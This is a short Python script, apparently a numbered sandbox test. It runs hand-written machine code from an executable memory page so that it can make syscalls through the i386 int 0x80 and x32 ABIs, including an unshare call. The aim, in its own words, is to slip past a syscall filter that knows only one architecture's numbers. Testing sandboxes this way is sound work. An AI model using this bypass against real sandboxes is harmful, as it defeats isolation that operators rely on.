"""28: system calls by the numbers of another architecture, past a filter that knows one."""

import ctypes
import mmap
import sys


def run(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


# mov eax, NUMBER; int 0x80; ret        (i386: 310 is unshare, 20 getpid)
# mov eax, NUMBER | 0x40000000; syscall; ret        (x32)
WAYS = {
    "int80": b"\xb8" + (20).to_bytes(4, "little") + b"\xcd\x80\xc3",
    "int80-unshare": b"\xbb\x00\x00\x00\x10\xb8" + (310).to_bytes(4, "little") + b"\xcd\x80\xc3",
    "x32": b"\xb8" + (39 | 0x40000000).to_bytes(4, "little") + b"\x0f\x05\xc3",
}
print("about to", sys.argv[1], flush=True)
print("ESCAPED:", sys.argv[1], run(WAYS[sys.argv[1]]), flush=True)
